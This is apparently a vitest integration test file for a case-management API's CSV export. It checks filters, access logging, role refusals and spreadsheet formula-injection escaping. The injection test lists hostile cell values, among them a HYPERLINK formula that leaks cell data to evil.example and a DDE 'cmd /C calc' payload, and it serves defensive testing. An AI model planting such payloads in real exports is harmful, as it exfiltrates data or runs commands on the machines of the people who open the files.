// GET /v1/exports/cases.csv: the very list GET /v1/cases gives (same filters, same scope, same
// order), every exported case written to its access log, CSV safe to open in a spreadsheet, and the
// refusals of the error contract.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, createConsulate, startHarness } from '../support/harness.js';
import { caseViewOf, insertCaseRows } from '../support/case-rows.js';
import { csvRecords } from '../support/csv.js';
import { bearer, expectError, expectValidation, openBody, openCase } from './support.js';

let h: Harness;
let supervisor: string;
let consulateId: string;
const otherOffice = `office-other-${randomUUID().slice(0, 6)}`;

async function listIds(token: string, query: Record<string, string>): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | undefined;
  do {
    const res = await h.http.get('/v1/cases').query({ ...query, limit: '200', ...(cursor ? { cursor } : {}) }).set(bearer(token));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    ids.push(...(res.body.items as Array<{ id: string }>).map((c) => c.id));
    cursor = res.body.nextCursor ?? undefined;
  } while (cursor);
  return ids;
}

async function exportCsv(token: string, query: Record<string, string> = {}) {
  const res = await h.http.get('/v1/exports/cases.csv').query(query).set(bearer(token)).buffer(true);
  expect(res.status, res.text).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  return { ...csvRecords(res.text), requestId: String(res.headers['x-request-id']) };
}

beforeAll(async () => {
  h = await startHarness();
  supervisor = await h.token('supervisor', { office: h.office, sub: 'sup-exports' });
  consulateId = await createConsulate(h);
  // A varied office, straight into the read model, and a neighbour office that must never show.
  const day = 86_400_000;
  const views = [
    ...Array.from({ length: 40 }, (_, i) =>
      caseViewOf({
        office: h.office,
        consulateId,
        createdAt: new Date(Date.UTC(2026, 0, 1) + i * day),
        stage: (['locating', 'extraction', 'return'] as const)[i % 3],
        priority: (['normal', 'high', 'low'] as const)[i % 3 === 0 ? 1 : (i % 2) * 2],
        country: i % 4 === 0 ? 'KH' : 'MM',
        closureReason: i % 7 === 0 ? 'reintegrated' : undefined,
      }),
    ),
    ...Array.from({ length: 10 }, () => caseViewOf({ office: otherOffice, consulateId, priority: 'high' })),
  ];
  await insertCaseRows(h, views);
}, 120_000);
afterAll(async () => {
  await h?.stop();
});

describe('GET /v1/exports/cases.csv', () => {
  it('when a supervisor exports with any of the list filters, then the CSV holds exactly the cases of the list, in its order', async () => {
    const caseworker = await h.token('caseworker', { office: h.office });
    const opened = await openCase(h, caseworker, openBody(consulateId));
    const star = await h.token('supervisor', { office: '*' });
    const cases: Array<[string, Record<string, string>]> = [
      [supervisor, {}],
      [supervisor, { priority: 'high' }],
      [supervisor, { stage: 'return', sort: 'createdAt' }],
      [supervisor, { status: 'closed' }],
      [supervisor, { country: 'KH', sort: '-priority' }],
      [supervisor, { createdAfter: '2026-01-10T00:00:00Z', createdBefore: '2026-01-30T00:00:00Z', sort: 'stageEnteredAt' }],
      [supervisor, { q: opened.reference }],
      [supervisor, { office: otherOffice }],
      [star, { office: otherOffice }],
      [star, { office: h.office, overdue: 'false' }],
    ];
    for (const [token, query] of cases) {
      const listed = await listIds(token, query);
      const exported = await exportCsv(token, query);
      expect(exported.records.map((r) => r.id), JSON.stringify(query)).toEqual(listed);
    }
    // The filters did filter: the check above cannot pass by exporting everything every time.
    expect((await listIds(supervisor, {})).length).toBe(41);
    expect(await listIds(supervisor, { office: otherOffice })).toEqual([]);
    expect((await listIds(star, { office: otherOffice })).length).toBe(10);
  });

  it('when a case is exported, then its access log names the export, with the request id; a case left out has no such entry', async () => {
    const exported = await exportCsv(supervisor, { priority: 'low' });
    expect(exported.records.length).toBeGreaterThan(0);
    const admin = await h.token('admin');
    for (const id of exported.records.map((r) => r.id).slice(0, 3)) {
      const log = await h.http.get(`/v1/cases/${id}/access-log`).set(bearer(admin));
      expect(log.status).toBe(200);
      expect(log.body.items).toContainEqual(expect.objectContaining({ what: 'export', sub: 'sup-exports', role: 'supervisor', office: h.office, requestId: exported.requestId }));
    }
    const [outside] = await listIds(supervisor, { priority: 'high' });
    const log = await h.http.get(`/v1/cases/${outside}/access-log`).set(bearer(admin));
    expect((log.body.items as Array<{ requestId: string }>).filter((e) => e.requestId === exported.requestId)).toEqual([]);
    const logged = await h.db.$client.query<{ n: string }>("select count(*) as n from access_log where request_id = $1 and what = 'export'", [exported.requestId]);
    expect(Number(logged.rows[0]!.n)).toBe(exported.records.length);
  });

  it('when names hold formulas, quotes, commas and line breaks, then every cell reads back as text a spreadsheet will not run', async () => {
    const office = `office-hostile-${randomUUID().slice(0, 6)}`;
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturned', '\nFed', '＝FULLWIDTH()'];
    const plain = ['Doe, "Junior"\nSecond line', 'Nguyễn Văn An 阮文安', 'O\'Brien; Smith'];
    const views = [...hostile, ...plain].map((fullName) => caseViewOf({ office, consulateId, person: { fullName } }));
    await insertCaseRows(h, views);
    const sup = await h.token('supervisor', { office });
    const { records } = await exportCsv(sup);
    const names = new Map(records.map((r) => [r.id, r.fullName]));
    for (const v of views) {
      const name = v.person.fullName;
      expect(names.get(v.id), JSON.stringify(name)).toBe(hostile.includes(name) ? `'${name}` : name);
    }
    for (const r of records) for (const cell of Object.values(r)) expect(cell, JSON.stringify(r)).not.toMatch(/^[=+\-@\t\r\n＝]/);
  });

  it('when a caseworker, an agency officer or an admin asks, then 403; when a filter is malformed or paging is asked for, then 400', async () => {
    for (const token of [await h.token('caseworker', { office: h.office }), await h.token('agency_officer', { agency: consulateId }), await h.token('admin')]) {
      expectError(await h.http.get('/v1/exports/cases.csv').set(bearer(token)), 403, 'forbidden');
      expectError(await h.http.get('/v1/exports/anonymised').set(bearer(token)), 403, 'forbidden');
    }
    expectValidation(await h.http.get('/v1/exports/cases.csv?stage=nowhere').set(bearer(supervisor)), ['stage']);
    expectValidation(await h.http.get('/v1/exports/cases.csv?createdAfter=yesterday').set(bearer(supervisor)), ['createdAfter']);
    expectValidation(await h.http.get('/v1/exports/cases.csv?limit=5').set(bearer(supervisor)), ['limit']);
    expectError(await h.http.get('/v1/exports/cases.csv'), 401, 'unauthenticated');
  });
});

describe('GET /v1/exports/anonymised refusals', () => {
  it('when k is below the configured minimum, not a number, or the format unknown, then 400 naming the parameter', async () => {
    const smaller = expectValidation(await h.http.get('/v1/exports/anonymised?k=5').set(bearer(supervisor)), ['k']);
    expect(smaller[0]!.message).toMatch(/11/);
    expectValidation(await h.http.get('/v1/exports/anonymised?k=10&format=json').set(bearer(supervisor)), ['k']);
    expectValidation(await h.http.get('/v1/exports/anonymised?k=eleven').set(bearer(supervisor)), ['k']);
    expectValidation(await h.http.get('/v1/exports/anonymised?format=xml').set(bearer(supervisor)), ['format']);
    const larger = await h.http.get('/v1/exports/anonymised?k=12&format=json').set(bearer(supervisor));
    expect(larger.status).toBe(200);
    expect(larger.body.k).toBe(12);
  });
});
